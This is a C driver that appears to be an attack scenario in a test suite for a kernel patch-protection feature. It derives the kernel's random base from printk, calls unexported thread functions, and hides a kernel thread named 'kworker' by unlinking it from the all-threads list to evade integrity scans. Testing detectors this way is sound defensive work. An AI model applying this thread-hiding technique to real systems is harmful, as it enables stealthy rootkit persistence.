/* attack_a116_unlisted_waiter (A116): a thread off the all-threads list.
 * The kernel exports neither thread creation nor its wait queues, and the
 * list of every thread is static: an attacker who has read the built
 * image knows where thread_create, wait_block, wait_wake_one and
 * all_threads lie relative to the exported printk, and the scenario
 * writes the five addresses from the image's symbols into the driver (the
 * difference from printk's gives the kernel's random base). From a timer
 * of its own, the driver starts a kernel thread of the system process
 * and, interrupts off, takes it off the list of every thread (the one
 * the passes walk, with their stack scans): by default the thread blocks
 * on a wait queue of the driver's, which the driver's timer wakes every
 * 10 ms (not the sleepers, which the passes also walk: it is seen only
 * while ready or running); with `sleep` it sleeps 10 ms at a time instead
 * (the sleepers). The driver stays listed; only the thread hides.
 * Expected (before the fix): no bug check, the thread counts on. */
#include "attack.h"

struct process;
struct thread;
struct wait_queue {
	struct thread *head, *tail;
};

typedef struct thread *(*thread_create_fn)(struct process *p, const char *name, void (*fn)(void *), void *arg);
typedef status_t (*wait_block_fn)(struct wait_queue *q, bool interruptible);
typedef void (*wait_wake_fn)(struct wait_queue *q);
typedef status_t (*sleep_fn)(uint64_t ns);

/* Set by the scenario from the built image's symbols. */
volatile uint64_t printk_at, thread_create_at, wait_block_at, wait_wake_at, thread_sleep_at, all_threads_at;

/* The start of struct thread up to all_next (kpp/sched.h). */
struct thread_head {
	uint32_t magic;
	int32_t refs;
	uint32_t tid;
	uint32_t state;
	struct process *process;
	struct thread *run_next;
	struct thread *proc_next;
	struct thread *all_next;
};

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct wait_queue queue;
static wait_block_fn wait_block;
static wait_wake_fn wake_one;
static sleep_fn sleep_ns;
static bool sleeping, started;
static volatile uint64_t rounds;

static void unlisted(void *arg)
{
	for (;;) {
		if (sleeping)
			sleep_ns(10000000ull);
		else
			wait_block(&queue, false);
		if (++rounds % 20 == 0)
			printk("~ attack_a116: unlisted thread, round %lu\n", rounds);
	}
}

/* Take t off the singly linked list of every thread. */
static bool unlink_all(struct thread **all, struct thread *t)
{
	for (struct thread **pp = all; *pp; pp = &((struct thread_head *)*pp)->all_next)
		if (*pp == t) {
			*pp = ((struct thread_head *)t)->all_next;
			return true;
		}
	return false;
}

static void tick(struct dpc *d, void *ctx)
{
	if (started) {
		if (!sleeping)
			wake_one(&queue);
		return;
	}
	if (!printk_at || !thread_create_at || !all_threads_at || !(sleeping ? thread_sleep_at : wait_block_at && wait_wake_at))
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	thread_create_fn create = (thread_create_fn)(thread_create_at + slide);
	wait_block = (wait_block_fn)(wait_block_at + slide);
	wake_one = (wait_wake_fn)(wait_wake_at + slide);
	sleep_ns = (sleep_fn)(thread_sleep_at + slide);
	struct thread **all = (struct thread **)(all_threads_at + slide);
	started = true;
	if (!a_in_kernel_text((uint64_t)create)) {
		timer_cancel(&wait_timer);
		printk("attack_a116: thread_create not in kernel text\n");
		return;
	}
	uint64_t pf = a_cli();
	struct thread *t = create(NULL, "kworker", unlisted, NULL);
	if (!t || !unlink_all(all, t)) {
		a_restore(pf);
		timer_cancel(&wait_timer);
		printk("attack_a116: no thread to unlink\n");
		return;
	}
	printk("attack_a116: a kernel thread off the list of every thread, %s\n",
	       sleeping ? "sleeping" : "waiting on the driver's wait queue");
	a_patched("attack_a116");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	sleeping = drv->args && !strcmp(drv->args, "sleep");
	dpc_init(&wait_dpc, tick, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 10000000ull);
	printk("attack_a116: waiting for the kernel's addresses\n");
	return KPP_STATUS_SUCCESS;
}
